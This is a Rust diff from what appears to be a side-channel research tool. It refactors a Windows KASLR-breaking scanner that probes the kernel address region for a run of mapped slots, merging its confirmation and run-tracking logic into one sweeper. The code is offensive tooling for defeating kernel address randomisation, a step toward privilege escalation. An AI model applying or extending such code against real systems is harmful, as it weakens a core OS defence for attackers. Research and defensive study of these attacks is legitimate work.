@@ -16,7 +16,7 @@ use avx_os::windows::{
 use crate::adaptive::AdaptiveSampler;
 use crate::calibrate::Threshold;
 use crate::decision::{ConfirmConfig, Confirmer, RunTracker};
-use crate::primitives::{PageTableAttack, SweepClassification};
+use crate::primitives::PageTableAttack;
 use crate::prober::Prober;
 use crate::recal::{RecalConfig, Recalibrating};
 use crate::sweep::AddrRange;
@@ -110,30 +110,6 @@ impl WindowsKaslrAttack {
     /// Candidates probed per batch while streaming the region scan.
     pub const SCAN_CHUNK_SLOTS: u64 = 1024;
 
-    /// One streamed chunk through either the open-loop attack or the
-    /// persistent closed-loop driver.
-    fn sweep_chunk<P: Prober + ?Sized>(
-        &self,
-        driver: &mut Option<Recalibrating>,
-        p: &mut P,
-        chunk: &AddrRange,
-    ) -> SweepClassification {
-        match driver {
-            Some(driver) => driver.sweep_range(p, chunk),
-            None => self.attack.sweep_range(p, chunk),
-        }
-    }
-
-    /// The persistent driver for a chunked scan, when recalibration is
-    /// configured. The inner attack handed to the driver must not
-    /// recurse into per-chunk drivers, which [`Recalibrating::new`]
-    /// guarantees by clearing its `recal` field.
-    fn driver(&self) -> Option<Recalibrating> {
-        self.attack
-            .recal
-            .map(|config| Recalibrating::new(self.attack, config))
-    }
-
     /// Scans all 262144 candidates for the five-slot kernel run.
     ///
     /// Streams batch by batch (no 262k-element allocation of raw samples
@@ -145,75 +121,46 @@ impl WindowsKaslrAttack {
         let probing_before = p.probing_cycles();
         let total_before = p.total_cycles();
         let start = VirtAddr::new_truncate(WIN_KERNEL_REGION_START);
-        let mut mapped_slots = 0u64;
-        let mut run_start: Option<u64> = None;
-        let mut run_len = 0u64;
-        let mut found: Option<u64> = None;
-        let mut slot = 0u64;
-        let mut probes = 0u64;
-
         let region = AddrRange::new(start, WIN_KASLR_ALIGN, WIN_KERNEL_SLOTS);
-        let mut candidates = 0u64;
-        let mut refits = 0u32;
-        let mut driver = self.driver();
+        let mut sweeper = Recalibrating::for_attack(self.attack);
         let confirmer = self.confirm.map(|c| Confirmer::new(&self.attack, c));
-        let mut tracker = self
-            .confirm
-            .map(|c| RunTracker::new(WIN_KERNEL_IMAGE_SLOTS, c.gap_tolerance));
+        // Without a confirmer no gap is tolerated: the first unmapped
+        // slot resets the run.
+        let gap_tolerance = self.confirm.map_or(0, |c| c.gap_tolerance);
+        let mut tracker = RunTracker::new(WIN_KERNEL_IMAGE_SLOTS, gap_tolerance);
+        let (mut mapped_slots, mut slot, mut probes, mut candidates) = (0u64, 0u64, 0u64, 0u64);
+        let mut found: Option<u64> = None;
+        let mut refits = 0u32;
         'sweep: for chunk in region.chunks(Self::SCAN_CHUNK_SLOTS) {
-            let sweep = self.sweep_chunk(&mut driver, p, &chunk);
+            let sweep = sweeper.sweep(p, &chunk);
             p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
             probes += sweep.probes;
             refits += sweep.refits;
             // The whole chunk was probed even when the run confirms
             // mid-chunk, so it counts toward probes-per-address whole.
             candidates += chunk.count;
-            match (&confirmer, &mut tracker) {
-                (Some(confirmer), Some(tracker)) => {
-                    // Decision-layer path: a breaking slot inside a
-                    // promising run is re-tested before the tracker
-                    // sees its verdict (one confirmed false negative is
-                    // a tolerated gap, not a reset).
-                    for mapped in sweep.mapped {
-                        let verdict = if mapped {
-                            true
-                        } else if tracker.in_run() {
-                            let addr = start.wrapping_add(slot * WIN_KASLR_ALIGN);
-                            let retest = confirmer.confirm_mapped(p, addr);
-                            probes += retest.probes;
-                            retest.confirmed
-                        } else {
-                            false
-                        };
-                        if verdict {
-                            mapped_slots += 1;
-                        }
-                        if let Some(run) = tracker.observe(slot, verdict) {
-                            found = Some(run);
-                            break 'sweep;
-                        }
-                        slot += 1;
+            for mapped in sweep.mapped {
+                // Decision layer: a breaking slot inside a promising
+                // run is re-tested before the tracker sees its verdict
+                // (one confirmed false negative is a tolerated gap, not
+                // a reset).
+                let verdict = match &confirmer {
+                    Some(confirmer) if !mapped && tracker.in_run() => {
+                        let addr = start.wrapping_add(slot * WIN_KASLR_ALIGN);
+                        let retest = confirmer.confirm_mapped(p, addr);
+                        probes += retest.probes;
+                        retest.confirmed
                     }
+                    _ => mapped,
+                };
+                if verdict {
+                    mapped_slots += 1;
                 }
-                _ => {
-                    for mapped in sweep.mapped {
-                        if mapped {
-                            mapped_slots += 1;
-                            if run_start.is_none() {
-                                run_start = Some(slot);
-                            }
-                            run_len += 1;
-                            if run_len >= WIN_KERNEL_IMAGE_SLOTS {
-                                found = run_start;
-                                break 'sweep;
-                            }
-                        } else {
-                            run_start = None;
-                            run_len = 0;
-                        }
-                        slot += 1;
-                    }
+                if let Some(run) = tracker.observe(slot, verdict) {
+                    found = Some(run);
+                    break 'sweep;
                 }
+                slot += 1;
             }
         }
 
@@ -242,10 +189,10 @@ impl WindowsKaslrAttack {
         let mut run_start: Option<u64> = None;
         let mut run_len = 0u64;
         let mut index = 0u64;
-        let mut driver = self.driver();
+        let mut sweeper = Recalibrating::for_attack(self.attack);
         let confirmer = self.confirm.map(|c| Confirmer::new(&self.attack, c));
         for chunk in AddrRange::pages(window_start, pages).chunks(Self::SCAN_CHUNK_SLOTS) {
-            let sweep = self.sweep_chunk(&mut driver, p, &chunk);
+            let sweep = sweeper.sweep(p, &chunk);
             p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
             for mapped in sweep.mapped {
                 // The shadow run must match *exactly*, so no gap is ever
